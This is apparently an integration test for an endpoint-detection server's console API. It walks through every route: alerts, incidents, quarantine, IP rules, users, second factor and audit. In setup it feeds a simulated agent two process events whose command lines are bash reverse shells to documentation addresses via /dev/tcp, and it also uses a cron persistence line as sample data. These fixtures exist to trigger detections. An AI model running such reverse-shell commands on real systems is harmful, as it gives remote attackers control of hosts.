/** Every route of the table answers a real server's data, and its answer is what the description of the API says. */
import assert from 'node:assert/strict'
import { mkdirSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { after, before, test } from 'node:test'
import { Database } from '@rampart/alert'
import { type RouteName, routes, type TaskMessage } from '@rampart/api'
import { until } from '../../../../test/until.ts'
import { Quarantine } from '../response/quarantine.ts'
import type { StoredOperation } from '../response/task-store.ts'
import { migrations } from '../store/migrations.ts'
import { queries } from '../testing/route-examples.ts'
import { enrolAgent, TestAgent } from '../testing/test-agent.ts'
import { TestConsole } from '../testing/test-console.ts'
import { startTestServer, type TestServer } from '../testing/test-server.ts'
import { codeAt } from './one-time-code.ts'

const password = 'correct horse battery'
const other = 'another long password'
let own: TestServer
let admin: TestConsole
let agent: TestAgent
let assetId = ''
/** Two alerts of one attack. */
let alerts: { id: string }[] = []
/** Routes that answered with 200, each answer held against the description by `TestConsole.call`. */
const answered = new Set<RouteName>()

before(async () => {
  own = await startTestServer({ silentAfterMs: 3_600_000 })
  admin = new TestConsole(own.server.consoleUrl)
  await admin.begin(own.server.firstUser ?? { name: '', password: '' }, password)
  for (const name of ['signIn', 'changePassword'] as const) answered.add(name)
  agent = new TestAgent(await enrolAgent(own.server.createEnrolmentToken().token))
  assetId = agent.enrolment.assetId
  await agent.connect()
  await agent.deliver(1, [
    agent.started(1, 'bash -i >& /dev/tcp/198.51.100.1/1'),
    childOf(agent.started(2, 'bash -i >& /dev/tcp/198.51.100.2/1', 4243, '/opt/tool')),
  ])
  alerts = (await admin.call('listAlerts')).body.items
  assert.equal(alerts.length, 2)
})
after(async () => {
  agent?.cut()
  await own?.end()
})

/** The same start, below the process of the first event: both alerts are of one attack. */
function childOf(event: Record<string, unknown>): Record<string, unknown> {
  const process = event.process as { ancestors: object[] }
  const parent = { pid: 4242, entityId: 'boot-1-4242-1', executable: '/bin/bash', name: 'bash' }
  return { ...event, process: { ...process, parent, ancestors: [parent, ...process.ancestors] } }
}

/** Calls a route and expects it to do what was asked. */
async function does(
  name: RouteName,
  call: { id?: string; query?: string; body?: unknown } = {},
  by: TestConsole = admin,
  // biome-ignore lint/suspicious/noExplicitAny: answers of every shape
): Promise<any> {
  const answer = await by.call(name, { query: queries[name], ...call })
  assert.equal(answer.status, 200, `${name}: ${JSON.stringify(answer.body).slice(0, 500)}`)
  answered.add(name)
  return answer.body
}

const first = () => alerts[0]?.id ?? ''
const version = async (id = first()) => (await does('getAlert', { id })).version as number
const taskOf = (kind: string) =>
  until(`a task to ${kind}`, () =>
    agent.received.findLast((message) => message.type === 'task' && (message as TaskMessage).kind === kind),
  ) as Promise<TaskMessage>
const finish = (task: TaskMessage, details: Record<string, unknown> = {}) =>
  agent.send({
    type: 'task-result',
    id: task.id,
    state: 'done',
    code: 'task.done',
    message: 'Done.',
    details,
    at: Date.now(),
  })

test('what is read', async () => {
  for (const [name, route] of Object.entries(routes) as [RouteName, (typeof routes)[RouteName]][])
    if (route.method === 'GET' && !route.path.includes(':id')) await does(name)
  const [model] = (await does('listModels')).items
  for (const name of [
    'getAlert',
    'similarAlerts',
    'whitelistFields',
    'getAlertResponses',
    'getProcessTree',
    'getTimeline',
    'getAlertGraph',
  ] as const)
    await does(name, { id: first() })
  for (const name of [
    'getAsset',
    'getCollection',
    'getInventory',
    'listInventoryThings',
    'listInventoryChanges',
  ] as const)
    await does(name, { id: assetId, query: name === 'listInventoryThings' ? 'kind=package' : undefined })
  await does('getModel', { id: model.id })
})

test('alerts, incidents, batches and whitelist rules', async () => {
  const noted = await does('handleAlert', {
    id: first(),
    body: { operation: 'add note', version: await version(), note: 'seen' },
  })
  const entry = noted.history.at(-1).id
  await does('changeAlertNote', { id: first(), body: { entry, note: 'seen again' } })
  const { id } = noted.incident
  const incident = await does('getIncident', { id })
  const told = await does('handleIncident', {
    id,
    body: { operation: 'add note', version: incident.version, note: 'x' },
  })
  await does('changeIncidentNote', { id, body: { entry: told.history.at(-1).id, note: 'y' } })
  await does('getIncidentGraph', { id })
  await does('handleIncidentAlerts', { id, body: { operation: 'add note', note: 'of all' } })

  const chosen = async () => [{ id: first(), version: await version() }]
  const batch = await does('startBatch', { body: { operation: 'ignore', alerts: await chosen() } })
  await until('the batch', async () => (await does('getBatch', { id: batch.id })).state !== 'running')
  await does('listBatchItems', { id: batch.id })
  await does('undoBatch', { id: batch.id })
  await does('cancelBatch', { id: batch.id })

  const conditions = [{ field: 'process.executable', operator: 'equals', value: '/opt/somewhere/else' }]
  const pattern = { conditions, about: { type: 'Suspicious Process' }, on: { asset: assetId } }
  await does('previewWhitelistRule', { body: pattern })
  const { rule } = await does('createWhitelistRule', { body: { ...pattern, reason: 'expected' } })
  await does('changeWhitelistRule', { id: rule.id, body: { enabled: false } })
  await does('deleteWhitelistRule', { id: rule.id })
  await does('restoreWhitelistRule', { id: rule.id })
  await does('listWhitelistRules')
  const filter = await does('saveFilter', { body: { name: 'mine', search: 'level=Urgent' } })
  await does('changeSavedFilter', { id: filter.id, body: { isDefault: true } })
  await does('listSavedFilters')
  await does('deleteSavedFilter', { id: filter.id })
})

test('operations of agents, quarantine and the IP Policy Library', async () => {
  const asked = await does('respondOnAsset', { id: assetId, body: { name: 'troubleshoot' } })
  await does('getOperation', { id: asked.id })
  await does('cancelOperation', { id: asked.id })
  const plan = await does('respondToAlert', { id: first(), body: { name: 'deep cleanup', version: await version() } })
  const line = {
    id: '1',
    kind: 'line',
    path: '/etc/cron.d/job',
    line: '* * * * * root /opt/tool',
    reason: 'It starts the tool.',
  }
  finish(await taskOf('plan-clean-up'), { parts: [line] })
  await until('the plan', async () => (await does('getOperation', { id: plan.id })).state === 'done')
  await does('carryOutCleanUp', { id: plan.id, body: { parts: ['1'] } })
  const isolated = await does('respondOnAsset', { id: assetId, body: { name: 'isolate host', minutes: 60 } })
  finish(await taskOf('isolate-host'))
  await until('isolation', async () => (await does('getOperation', { id: isolated.id })).state === 'done')
  await does('undoOperation', { id: isolated.id, body: {} })
  await does('listOperations')

  const operation = { id: 'op-x', actor: 'admin', alertId: null } as StoredOperation
  const opened = Database.open(join(own.directory, 'state', 'rampart.db'), migrations)
  assert.ok(opened.ok)
  const quarantine = new Quarantine(opened.database)
  for (const entry of ['qf-1', 'qf-2', 'qf-3']) {
    quarantine.add(entry, assetId, `/opt/${entry}`, operation, null, Date.now())
    quarantine.set(entry, 'quarantined', null, null, Date.now())
  }
  opened.database.close()
  await does('restoreQuarantined', { id: 'qf-1', body: {} })
  await does('deleteQuarantined', { id: 'qf-2' })
  await does('fetchQuarantined', { id: 'qf-3' })
  assert.equal((await does('listQuarantine')).items.length, 3)
  mkdirSync(join(own.directory, 'state', 'downloads'), { recursive: true })
  writeFileSync(join(own.directory, 'state', 'downloads', 'qf-1.zip'), 'PK')
  await does('downloadQuarantined', { id: 'qf-1' })

  const rule = await does('createIpRule', { body: { address: '198.51.100.9', assets: [assetId], reason: 'guesses' } })
  await does('switchIpRule', { id: rule.id, body: { enabled: false } })
  await does('listIpRules')
  await does('deleteIpRule', { id: rule.id })
  await does('approveAddress', { body: { address: '203.0.113.1' } })
  await does('listApprovedAddresses')
  await does('disapproveAddress', { id: '203.0.113.1' })
  const bruteForce = { enabled: true, services: ['SSH'], windowMs: 60_000, failures: 2, banMs: null }
  await does('setBruteForceRule', { body: { asset: assetId, rule: bruteForce } })
  await does('getBruteForceRules')
})

test('assets, agents, models, settings and notifications', async () => {
  const [model] = (await does('listModels')).items
  await does('switchModel', { id: model.id, body: { enabled: false } })
  await does('switchDefenceItem', { id: 'webshell', body: { scope: { groups: ['web'], assets: [assetId] } } })
  await does('changeAssets', { body: { ids: [assetId], group: 'web', addTags: ['public'], edition: 'Enterprise' } })
  await does('setAgentSettings', { id: assetId, body: { spoolMegabytes: 64 } })
  await does('setCollection', { id: assetId, body: { defaultLogs: true, logs: [], receivers: [] } })
  await does('createUninstallToken', { id: assetId })
  const token = await does('createEnrolmentToken', { body: { uses: 2 } })
  await does('getEnrolmentToken', { id: token.id })
  await does('listEnrolmentTokens')
  await does('cancelEnrolmentToken', { id: token.id })
  await does('changeSettings', { body: { values: { 'retention.eventDays': 14, 'general.kubernetes': true } } })
  await does('listSettings')
  const target = { kind: 'syslog', host: '127.0.0.1', port: 9, transport: 'udp' }
  const body = { name: 'x', target, allowPrivate: true, quiet: { from: '22:00', to: '07:00', zone: 'UTC' } }
  const channel = await does('createNotificationChannel', { body })
  await does('changeNotificationChannel', { id: channel.id, body })
  await does('testNotificationChannel', { id: channel.id })
  await does('listNotificationDeliveries', { id: channel.id })
  await does('listNotificationChannels')
  await does('removeNotificationChannel', { id: channel.id })
  await does('listBanners')
})

test('users, the own account, and the audit trail of all of it', async () => {
  const { password: given } = await does('createUser', { body: { name: 'mia', role: 'analyst', groups: ['web'] } })
  const mia = new TestConsole(own.server.consoleUrl)
  await mia.begin({ name: 'mia', password: given }, other)
  await does('changeUser', { id: 'mia', body: { disabled: false, groups: ['web'] } })
  await does('listUsers')
  const { secret } = await does('offerSecondFactor', { body: { password: other } }, mia)
  const step = Math.floor(Date.now() / 30_000)
  const { codes } = await does('confirmSecondFactor', { body: { code: codeAt(secret, step) } }, mia)
  // The session is another one now.
  assert.equal((await mia.signIn('mia', other, codes[0])).status, 200)
  await does('renewRecoveryCodes', { body: { password: other } }, mia)
  await does('resetUserSecondFactor', { id: 'mia' })
  assert.equal((await mia.signIn('mia', other)).status, 200)
  await does('offerSecondFactor', { body: { password: other } }, mia)
  await does('removeSecondFactor', { body: { password: other } }, mia)
  const { token } = await does('createToken', { body: { title: 'x', role: 'viewer' } }, mia)
  await does('listTokens', {}, mia)
  await does('revokeToken', { id: token.id }, mia)
  await new TestConsole(own.server.consoleUrl).signIn('mia', other)
  const sessions = (await does('listOwnSessions', {}, mia)).items as { id: string; current: boolean }[]
  await does('endOwnSession', { id: sessions.find(({ current }) => !current)?.id ?? '' }, mia)
  await does('endOtherSessions', {}, mia)
  await does('getAccount', {}, mia)
  await does('getSession', {}, mia)
  await does('signOut', {}, mia)
  await does('resetUserPassword', { id: 'mia' })
  await does('deleteUser', { id: 'mia' })
  await does('listAudit', { query: 'limit=500' })
  await does('exportAudit', { query: 'format=ndjson' })
  assert.equal((await does('verifyAudit')).intact, true)
  await does('revokeAgent', { id: assetId, body: { reason: 'It was stolen.' } })
  await does('removeAsset', { id: assetId })
})

test('no route was left out', () => {
  assert.deepEqual(
    Object.keys(routes).filter((name) => !answered.has(name as RouteName)),
    [],
  )
})
